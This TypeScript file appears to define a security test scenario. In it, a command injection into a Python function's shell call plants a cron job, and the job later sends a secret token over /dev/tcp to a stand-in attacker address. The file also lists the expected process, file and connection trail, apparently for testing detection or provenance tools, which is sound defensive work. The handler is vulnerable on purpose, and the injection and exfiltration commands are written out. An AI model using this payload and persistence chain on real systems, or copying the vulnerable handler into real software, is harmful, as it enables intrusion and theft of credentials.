/**
 * By an injected command an attacker leaves a job for the container's cron, which sends a file away a while later, when
 * the request is long over. Other jobs run every minute, too, and send what they found to a harmless server.
 */
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { Host, Scenario } from '../scenario.ts';
import { functionSteps, gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import { attacker, client, harmless } from '../stage.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.44';
const path = '/function/count';
const words = ['alpha', 'beta', 'gamma', 'delta'];
const handler = `import logging, subprocess

def handle(body):
    word = body.decode()
    logging.info("counting %s", word)
    return subprocess.run(f"grep -c {word} /srv/words", shell=True, capture_output=True, text=True).stdout
`;
const job = 'cat /srv/token >/dev/tcp/203.0.113.66/4444';
const plant = `printf 'SHELL=/bin/bash\\n* * * * * root ${job}\\n' >/etc/cron.d/update`;

const counter = pythonFunction('count', address, handler, {
  'srv/token': 'the token of this function\n',
  'srv/words': words.join('\n'),
  'etc/cron.d/report': `SHELL=/bin/bash\n* * * * * root wc -l /srv/words >/dev/tcp/${harmless}/80\n`,
  'etc/cron.d/clean': '* * * * * root find /tmp -mmin +60 -delete; cat /srv/token | wc -c >/tmp/size\n',
  'etc/pam.d/cron': ['auth', 'account', 'session'].map((each) => `${each} required pam_permit.so\n`).join(''),
});

/** With cron beside the function. */
const host: Host = {
  ...counter,
  async prepare(container) {
    await counter.prepare(container);
    mkdirSync(join(container.root, 'var/spool/cron/crontabs'), { recursive: true });
    symlinkSync('/run', join(container.root, 'var/run'));
  },
  command: () => [
    ...['/usr/bin/env', 'PATH=/usr/sbin:/usr/bin:/sbin:/bin', '/bin/sh', '-c', 'cron; exec "$@"', 'start'],
    ...counter.command(),
  ],
};

export const cronPersistence: Scenario = {
  name: 'cron-persistence',
  title: 'an injected command leaves a job for cron, which sends the token away when its minute comes',
  packages: ['nginx', 'python3', 'cron'],
  hosts: [host, gatewayHost({ count: address })],
  load: {
    visits: words.map((word) => ({
      weight: 1,
      requests: [{ to: [gateway, 80], method: 'POST', path, body: word, status: [200] }],
    })),
    chores: [{ host: 'count', command: ['/bin/sh', '-c', 'cat /etc/cron.d/*; wc -c /srv/token'] }],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const body = `alpha /srv/words; ${plant}; true`;
    const asked = await stage.outside.browser(client).ask(gateway, 80, { method: 'POST', path, body });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the token')) throw new Error(`nothing was stolen: ${asked.body}`);
    return {
      symptom: place,
      also: ['/etc/cron.d/update'],
      rootCause: { kind: 'connection', from: asked.client, to: `${gateway}:80` },
      steps: [
        ...functionSteps('count', asked),
        {
          what: 'its shell',
          at: { kind: 'process', container: 'count', words: 'grep -c alpha /srv/words; printf' },
        },
        { what: 'the job for cron', at: { kind: 'file', path: '/etc/cron.d/update' } },
        { what: 'cron', at: { kind: 'process', container: 'count', words: 'cron' } },
        { what: 'the job', at: { kind: 'process', container: 'count', words: job } },
        { what: 'it reads the token', at: { kind: 'process', container: 'count', words: 'cat /srv/token' } },
        { what: 'the token', at: { kind: 'file', path: '/srv/token' } },
        { what: 'the loot is sent away', at: { kind: 'connection', from: address, to: place } },
      ],
    };
  },
};
